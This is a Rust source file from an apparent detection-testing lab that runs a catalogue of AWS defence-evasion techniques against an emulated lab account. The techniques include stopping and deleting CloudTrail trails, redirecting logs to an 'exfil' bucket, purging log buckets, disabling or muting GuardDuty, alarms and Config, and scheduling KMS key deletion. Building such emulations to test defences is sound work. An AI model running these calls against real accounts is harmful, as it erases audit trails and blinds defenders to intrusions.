//! Tampering techniques of the catalog, performed against a lab account the way an attacker
//! with a foothold would: through the AWS API, with the attacker's own role.

use crate::{ALARM, FLOW_LOG_GROUP, HOME_REGION, LOG_GROUP, LabAccount, LabError, METRIC_FILTER};
use trailwarden_aws::AccountConfig;
use trailwarden_aws::sdk::{cloudtrail, config, guardduty, s3};
use trailwarden_moto::Fault;

/// What an attack did, and the answers the emulator must give that moto cannot (operations it
/// lacks): the caller installs them in the lab's proxy.
#[derive(Debug)]
pub struct Performed {
    pub summary: String,
    pub fakes: Vec<Fault>,
}

/// A technique the lab can perform: the list lives beside the catalog, so that
/// `trailwarden techniques` can report what the lab attacks.
pub use trailwarden_model::technique::{LAB_ATTACKS as TECHNIQUES, LabAttack as Technique};

/// Answers the lab must give before a technique is performed (a policy that denies it), for
/// the caller to install in the proxy first.
pub fn setup_faults(id: &str) -> Vec<Fault> {
    match id {
        "denied-stop-logging" => vec![
            Fault::error(
                400,
                "AccessDeniedException",
                "User: arn:aws:sts::assumed-role/compromised-admin/mallory is not authorized to perform: cloudtrail:StopLogging because no identity-based policy allows the cloudtrail:StopLogging action",
            )
            .service("cloudtrail")
            .operation("StopLogging")
            .times(1),
        ],
        _ => Vec::new(),
    }
}

/// Looks a technique up by id.
pub fn technique(id: &str) -> Option<&'static Technique> {
    TECHNIQUES.iter().find(|t| t.id == id)
}

const TRAIL: &str = "management-events";
/// The canonical user id of an account the attacker controls (any 64 hex digits to S3).
const ATTACKER_CANONICAL_ID: &str =
    "4f1c2b3a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7081";

/// Performs `id` against `target` with the attacker's clients; returns what was done.
pub async fn perform(
    id: &str,
    attacker: &AccountConfig,
    target: &LabAccount,
) -> Result<Performed, LabError> {
    let mut fakes = Vec::new();
    let detector = target.detector_id.clone().unwrap_or_default();
    let a = target.id.as_str();
    let ct = attacker.cloudtrail(HOME_REGION);
    let s3c = attacker.s3(HOME_REGION);
    let bucket = target.bucket.clone().unwrap_or_default();
    let key = target.key_arn.clone().unwrap_or_default();
    // moto wants the bare key id for some calls (DESIGN.md); AWS takes either.
    let key_id = key.rsplit('/').next().unwrap_or_default().to_owned();
    let attacker_bucket = format!("exfil-{a}-logs");
    match id {
        "denied-stop-logging" => {
            if ct.stop_logging().name(TRAIL).send().await.is_ok() {
                return Err(crate::step_failed(
                    a,
                    "StopLogging",
                    "expected AccessDenied, but the call succeeded (install setup_faults first)",
                ));
            }
        }
        "stop-logging" => {
            call!(a, "StopLogging", ct.stop_logging().name(TRAIL).send());
        }
        "delete-trail" => {
            call!(a, "DeleteTrail", ct.delete_trail().name(TRAIL).send());
        }
        "single-region" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail()
                    .name(TRAIL)
                    .is_multi_region_trail(false)
                    .send()
            );
        }
        "no-global-events" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail()
                    .name(TRAIL)
                    .include_global_service_events(false)
                    .send()
            );
        }
        "redirect-bucket" | "unexpected-trail" => {
            call!(
                a,
                "CreateBucket",
                s3c.create_bucket().bucket(&attacker_bucket).send()
            );
            call!(
                a,
                "PutBucketPolicy",
                s3c.put_bucket_policy()
                    .bucket(&attacker_bucket)
                    .policy(crate::cloudtrail_bucket_policy(
                        &attacker_bucket,
                        a,
                        &[format!("arn:aws:cloudtrail:{HOME_REGION}:{a}:trail/*")]
                    ))
                    .send()
            );
            if id == "redirect-bucket" {
                call!(
                    a,
                    "UpdateTrail",
                    ct.update_trail()
                        .name(TRAIL)
                        .s3_bucket_name(&attacker_bucket)
                        .send()
                );
            } else {
                call!(
                    a,
                    "CreateTrail",
                    ct.create_trail()
                        .name("backup-trail")
                        .s3_bucket_name(&attacker_bucket)
                        .send()
                );
                call!(
                    a,
                    "StartLogging",
                    ct.start_logging().name("backup-trail").send()
                );
            }
        }
        "attacker-kms-key" => {
            let kms = attacker.kms(HOME_REGION);
            let k = call!(
                a,
                "CreateKey",
                kms.create_key().description("not yours").send()
            );
            let arn = k
                .key_metadata()
                .and_then(|m| m.arn())
                .unwrap_or_default()
                .to_owned();
            call!(
                a,
                "UpdateTrail",
                ct.update_trail().name(TRAIL).kms_key_id(arn).send()
            );
        }
        "validation-off" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail()
                    .name(TRAIL)
                    .enable_log_file_validation(false)
                    .send()
            );
        }
        "detach-cloudwatch" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail()
                    .name(TRAIL)
                    .cloud_watch_logs_log_group_arn("")
                    .cloud_watch_logs_role_arn("")
                    .send()
            );
        }
        "minimize" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail()
                    .name(TRAIL)
                    .is_multi_region_trail(false)
                    .include_global_service_events(false)
                    .enable_log_file_validation(false)
                    .kms_key_id("")
                    .cloud_watch_logs_log_group_arn("")
                    .cloud_watch_logs_role_arn("")
                    .send()
            );
        }
        "exclude-management-events" | "read-only-management" => {
            let selector = if id == "exclude-management-events" {
                // Stratus cloudtrail-event-selectors.
                cloudtrail::types::EventSelector::builder()
                    .read_write_type(cloudtrail::types::ReadWriteType::ReadOnly)
                    .include_management_events(false)
                    .data_resources(
                        cloudtrail::types::DataResource::builder()
                            .r#type("AWS::S3::Object")
                            .values("arn:aws:s3:::nothing-here/")
                            .build(),
                    )
                    .build()
            } else {
                cloudtrail::types::EventSelector::builder()
                    .read_write_type(cloudtrail::types::ReadWriteType::ReadOnly)
                    .include_management_events(true)
                    .build()
            };
            call!(
                a,
                "PutEventSelectors",
                ct.put_event_selectors()
                    .trail_name(TRAIL)
                    .event_selectors(selector)
                    .send()
            );
        }
        "advanced-selectors-data-only" => {
            // Advanced selectors that log S3 data events only: no Management selector.
            let field = |name: &str, value: &str| {
                cloudtrail::types::AdvancedFieldSelector::builder()
                    .field(name)
                    .equals(value)
                    .build()
                    .map_err(|e| crate::step_failed(a, "PutEventSelectors", e))
            };
            let selector = cloudtrail::types::AdvancedEventSelector::builder()
                .name("S3 data events")
                .field_selectors(field("eventCategory", "Data")?)
                .field_selectors(field("resources.type", "AWS::S3::Object")?)
                .build()
                .map_err(|e| crate::step_failed(a, "PutEventSelectors", e))?;
            call!(
                a,
                "PutEventSelectors",
                ct.put_event_selectors()
                    .trail_name(TRAIL)
                    .advanced_event_selectors(selector)
                    .send()
            );
        }
        "delete-bucket" => {
            // `s3 rb --force`: empty it first (every version), then delete; CloudTrail keeps
            // delivering meanwhile, so an attacker's script empties it again until it goes.
            let mut attempts = 0;
            loop {
                let versions = call!(
                    a,
                    "ListObjectVersions",
                    s3c.list_object_versions().bucket(&bucket).send()
                );
                for v in versions.versions() {
                    call!(
                        a,
                        "DeleteObject",
                        s3c.delete_object()
                            .bucket(&bucket)
                            .key(v.key().unwrap_or_default())
                            .set_version_id(v.version_id().map(str::to_owned))
                            .send()
                    );
                }
                attempts += 1;
                match s3c.delete_bucket().bucket(&bucket).send().await {
                    Ok(_) => break,
                    Err(_) if attempts < 10 => continue,
                    Err(e) => {
                        return Err(crate::step_failed(
                            a,
                            "DeleteBucket",
                            trailwarden_aws::sdk::sts::error::DisplayErrorContext(e),
                        ));
                    }
                }
            }
        }
        "bucket-policy-deny" => {
            let policy = serde_json::json!({"Version": "2012-10-17", "Statement": [{
                "Sid": "NoMoreLogs", "Effect": "Deny",
                "Principal": {"Service": "cloudtrail.amazonaws.com"},
                "Action": "s3:PutObject", "Resource": format!("arn:aws:s3:::{bucket}/*")
            }]});
            call!(
                a,
                "PutBucketPolicy",
                s3c.put_bucket_policy()
                    .bucket(&bucket)
                    .policy(policy.to_string())
                    .send()
            );
        }
        "lifecycle-expiration" => {
            let rule = s3::types::LifecycleRule::builder()
                .id("cleanup")
                .status(s3::types::ExpirationStatus::Enabled)
                .filter(
                    s3::types::LifecycleRuleFilter::builder()
                        .prefix("AWSLogs/")
                        .build(),
                )
                .expiration(s3::types::LifecycleExpiration::builder().days(1).build())
                .build()
                .map_err(|e| crate::step_failed(a, "rule", e))?;
            // A put replaces the configuration: the attacker keeps the existing rule to look benign.
            let keep = call!(
                a,
                "GetLifecycleConfiguration",
                s3c.get_bucket_lifecycle_configuration()
                    .bucket(&bucket)
                    .send()
            );
            let mut rules = keep.rules().to_vec();
            rules.push(rule);
            call!(
                a,
                "PutLifecycleConfiguration",
                s3c.put_bucket_lifecycle_configuration()
                    .bucket(&bucket)
                    .lifecycle_configuration(
                        s3::types::BucketLifecycleConfiguration::builder()
                            .set_rules(Some(rules))
                            .build()
                            .map_err(|e| crate::step_failed(a, "lifecycle", e))?
                    )
                    .send()
            );
        }
        "bucket-notification" => {
            let lambda = s3::types::LambdaFunctionConfiguration::builder()
                .lambda_function_arn(format!(
                    "arn:aws:lambda:{HOME_REGION}:{a}:function:log-scrubber"
                ))
                .events(s3::types::Event::S3ObjectCreated)
                .build()
                .map_err(|e| crate::step_failed(a, "notification", e))?;
            call!(
                a,
                "PutBucketNotificationConfiguration",
                s3c.put_bucket_notification_configuration()
                    .bucket(&bucket)
                    .notification_configuration(
                        s3::types::NotificationConfiguration::builder()
                            .lambda_function_configurations(lambda)
                            .build()
                    )
                    .send()
            );
        }
        "suspend-versioning" => {
            call!(
                a,
                "PutBucketVersioning",
                s3c.put_bucket_versioning()
                    .bucket(&bucket)
                    .versioning_configuration(
                        s3::types::VersioningConfiguration::builder()
                            .status(s3::types::BucketVersioningStatus::Suspended)
                            .build()
                    )
                    .send()
            );
        }
        "bucket-encryption-attacker-key" => {
            let k = call!(
                a,
                "CreateKey",
                attacker
                    .kms(HOME_REGION)
                    .create_key()
                    .description("not yours")
                    .send()
            );
            let arn = k
                .key_metadata()
                .and_then(|m| m.arn())
                .unwrap_or_default()
                .to_owned();
            let by_default = s3::types::ServerSideEncryptionByDefault::builder()
                .sse_algorithm(s3::types::ServerSideEncryption::AwsKms)
                .kms_master_key_id(arn)
                .build()
                .map_err(|e| crate::step_failed(a, "PutBucketEncryption", e))?;
            let configuration = s3::types::ServerSideEncryptionConfiguration::builder()
                .rules(
                    s3::types::ServerSideEncryptionRule::builder()
                        .apply_server_side_encryption_by_default(by_default)
                        .bucket_key_enabled(true)
                        .build(),
                )
                .build()
                .map_err(|e| crate::step_failed(a, "PutBucketEncryption", e))?;
            call!(
                a,
                "PutBucketEncryption",
                s3c.put_bucket_encryption()
                    .bucket(&bucket)
                    .server_side_encryption_configuration(configuration)
                    .send()
            );
        }
        "bucket-acl-grant" => {
            let current = call!(
                a,
                "GetBucketAcl",
                s3c.get_bucket_acl().bucket(&bucket).send()
            );
            let owner = current
                .owner()
                .and_then(|o| o.id())
                .unwrap_or_default()
                .to_owned();
            let grant = |grantee: s3::types::Grantee, permission| {
                s3::types::Grant::builder()
                    .grantee(grantee)
                    .permission(permission)
                    .build()
            };
            let user = |id: &str| {
                s3::types::Grantee::builder()
                    .r#type(s3::types::Type::CanonicalUser)
                    .id(id)
                    .build()
                    .map_err(|e| crate::step_failed(a, "PutBucketAcl", e))
            };
            call!(
                a,
                "PutBucketAcl",
                s3c.put_bucket_acl()
                    .bucket(&bucket)
                    .access_control_policy(
                        s3::types::AccessControlPolicy::builder()
                            .owner(s3::types::Owner::builder().id(&owner).build())
                            .grants(grant(user(&owner)?, s3::types::Permission::FullControl))
                            .grants(grant(
                                user(ATTACKER_CANONICAL_ID)?,
                                s3::types::Permission::Read
                            ))
                            .build()
                    )
                    .send()
            );
        }
        "access-logging-off" => {
            call!(
                a,
                "PutBucketLogging",
                s3c.put_bucket_logging()
                    .bucket(&bucket)
                    .bucket_logging_status(s3::types::BucketLoggingStatus::builder().build())
                    .send()
            );
        }
        "disable-key" => {
            call!(
                a,
                "DisableKey",
                attacker
                    .kms(HOME_REGION)
                    .disable_key()
                    .key_id(&key_id)
                    .send()
            );
        }
        "schedule-key-deletion" => {
            call!(
                a,
                "ScheduleKeyDeletion",
                attacker
                    .kms(HOME_REGION)
                    .schedule_key_deletion()
                    .key_id(&key_id)
                    .pending_window_in_days(7)
                    .send()
            );
        }
        "key-policy" => {
            let policy = serde_json::json!({"Version": "2012-10-17", "Statement": [{
                "Sid": "OnlyMe", "Effect": "Allow",
                "Principal": {"AWS": format!("arn:aws:iam::{a}:role/{}", crate::ATTACKER_ROLE)},
                "Action": "kms:*", "Resource": "*"
            }]});
            call!(
                a,
                "PutKeyPolicy",
                attacker
                    .kms(HOME_REGION)
                    .put_key_policy()
                    .key_id(&key_id)
                    .policy_name("default")
                    .policy(policy.to_string())
                    .send()
            );
        }
        "delete-log-group" => {
            call!(
                a,
                "DeleteLogGroup",
                attacker
                    .logs(HOME_REGION)
                    .delete_log_group()
                    .log_group_name(LOG_GROUP)
                    .send()
            );
        }
        "shorten-retention" => {
            call!(
                a,
                "PutRetentionPolicy",
                attacker
                    .logs(HOME_REGION)
                    .put_retention_policy()
                    .log_group_name(LOG_GROUP)
                    .retention_in_days(1)
                    .send()
            );
        }
        "delete-metric-filter" => {
            call!(
                a,
                "DeleteMetricFilter",
                attacker
                    .logs(HOME_REGION)
                    .delete_metric_filter()
                    .log_group_name(LOG_GROUP)
                    .filter_name(METRIC_FILTER)
                    .send()
            );
        }
        "insights-off" => {
            call!(
                a,
                "PutInsightSelectors",
                ct.put_insight_selectors()
                    .trail_name(TRAIL)
                    .set_insight_selectors(Some(Vec::new()))
                    .send()
            );
        }
        "trail-sns-off" => {
            call!(
                a,
                "UpdateTrail",
                ct.update_trail().name(TRAIL).sns_topic_name("").send()
            );
        }
        "mute-alarm" => {
            call!(
                a,
                "DisableAlarmActions",
                attacker
                    .cloudwatch(HOME_REGION)
                    .disable_alarm_actions()
                    .alarm_names(ALARM)
                    .send()
            );
        }
        "delete-alarm" => {
            call!(
                a,
                "DeleteAlarms",
                attacker
                    .cloudwatch(HOME_REGION)
                    .delete_alarms()
                    .alarm_names(ALARM)
                    .send()
            );
        }
        "delete-alert-topic" => {
            call!(
                a,
                "DeleteTopic",
                attacker
                    .sns(HOME_REGION)
                    .delete_topic()
                    .topic_arn(crate::alert_topic_arn(a))
                    .send()
            );
        }
        "unsubscribe-alerts" => {
            let sns = attacker.sns(HOME_REGION);
            let listed = call!(
                a,
                "ListSubscriptionsByTopic",
                sns.list_subscriptions_by_topic()
                    .topic_arn(crate::alert_topic_arn(a))
                    .send()
            );
            let mut removed = 0;
            for sub in listed.subscriptions() {
                if let Some(arn) = sub.subscription_arn() {
                    call!(
                        a,
                        "Unsubscribe",
                        sns.unsubscribe().subscription_arn(arn).send()
                    );
                    removed += 1;
                }
            }
            if removed == 0 {
                return Err(crate::step_failed(
                    a,
                    "Unsubscribe",
                    "the topic had no subscriber",
                ));
            }
        }
        "disable-guardduty" => {
            call!(
                a,
                "UpdateDetector",
                attacker
                    .guardduty(HOME_REGION)
                    .update_detector()
                    .detector_id(target.detector_id.clone().unwrap_or_default())
                    .enable(false)
                    .send()
            );
        }
        "guardduty-suppression-filter" => {
            let criteria = guardduty::types::FindingCriteria::builder()
                .criterion(
                    "severity",
                    guardduty::types::Condition::builder()
                        .greater_than_or_equal(0)
                        .build(),
                )
                .build();
            call!(
                a,
                "CreateFilter",
                attacker
                    .guardduty(HOME_REGION)
                    .create_filter()
                    .detector_id(&detector)
                    .name("hide-everything")
                    .action(guardduty::types::FilterAction::Archive)
                    .finding_criteria(criteria)
                    .send()
            );
            // moto stores the filter but has no ListFilters: answer it for this detector.
            fakes.push(
                Fault::reply(r#"{"filterNames":["hide-everything"]}"#)
                    .service("guardduty")
                    .operation("ListFilters")
                    .path_contains(&detector),
            );
        }
        "guardduty-trusted-ip" => {
            // moto has no IP sets at all: this is the state AWS would then report.
            fakes.push(
                Fault::reply(r#"{"ipSetIds":["0123abcd"]}"#)
                    .service("guardduty")
                    .operation("ListIPSets")
                    .path_contains(&detector),
            );
            fakes.push(Fault::reply(r#"{"name":"office-vpn","format":"TXT","location":"https://s3.amazonaws.com/exfil-bucket/trusted.txt","status":"ACTIVE"}"#)
                .service("guardduty").operation("GetIPSet").path_contains(&detector));
        }
        "delete-guardduty" => {
            call!(
                a,
                "DeleteDetector",
                attacker
                    .guardduty(HOME_REGION)
                    .delete_detector()
                    .detector_id(target.detector_id.clone().unwrap_or_default())
                    .send()
            );
        }
        "stop-config" => {
            call!(
                a,
                "StopConfigurationRecorder",
                attacker
                    .config(HOME_REGION)
                    .stop_configuration_recorder()
                    .configuration_recorder_name("default")
                    .send()
            );
        }
        "narrow-config-recorder" => {
            call!(
                a,
                "PutConfigurationRecorder",
                attacker
                    .config(HOME_REGION)
                    .put_configuration_recorder()
                    .configuration_recorder(
                        config::types::ConfigurationRecorder::builder()
                            .name("default")
                            .role_arn(format!("arn:aws:iam::{a}:role/aws-config"))
                            .recording_group(
                                config::types::RecordingGroup::builder()
                                    .all_supported(false)
                                    .include_global_resource_types(false)
                                    .resource_types(config::types::ResourceType::Instance)
                                    .recording_strategy(
                                        config::types::RecordingStrategy::builder()
                                            .use_only(
                                                config::types::RecordingStrategyType::InclusionByResourceTypes
                                            )
                                            .build()
                                    )
                                    .build()
                            )
                            .build()
                    )
                    .send()
            );
        }
        "redirect-config-channel" => {
            call!(
                a,
                "CreateBucket",
                s3c.create_bucket().bucket(&attacker_bucket).send()
            );
            call!(
                a,
                "PutDeliveryChannel",
                attacker
                    .config(HOME_REGION)
                    .put_delivery_channel()
                    .delivery_channel(
                        config::types::DeliveryChannel::builder()
                            .name("default")
                            .s3_bucket_name(&attacker_bucket)
                            .build()
                    )
                    .send()
            );
        }
        "delete-config-recorder" => {
            call!(
                a,
                "DeleteConfigurationRecorder",
                attacker
                    .config(HOME_REGION)
                    .delete_configuration_recorder()
                    .configuration_recorder_name("default")
                    .send()
            );
        }
        "delete-flow-logs" => {
            let ec2c = attacker.ec2(HOME_REGION);
            let flows = call!(a, "DescribeFlowLogs", ec2c.describe_flow_logs().send());
            let ids: Vec<String> = flows
                .flow_logs()
                .iter()
                .filter(|f| f.log_group_name() == Some(FLOW_LOG_GROUP))
                .filter_map(|f| f.flow_log_id().map(str::to_owned))
                .collect();
            call!(
                a,
                "DeleteFlowLogs",
                ec2c.delete_flow_logs().set_flow_log_ids(Some(ids)).send()
            );
        }
        other => {
            return Err(LabError::Seed {
                account: a.to_owned(),
                what: "attack".into(),
                message: format!(
                    "unknown technique '{other}' (see `trailwarden-lab attack --list`)"
                ),
            });
        }
    }
    let t = technique(id).expect("listed");
    Ok(Performed {
        summary: format!("{} ({}): {} in account {a}", t.id, t.catalog, t.summary),
        fakes,
    })
}
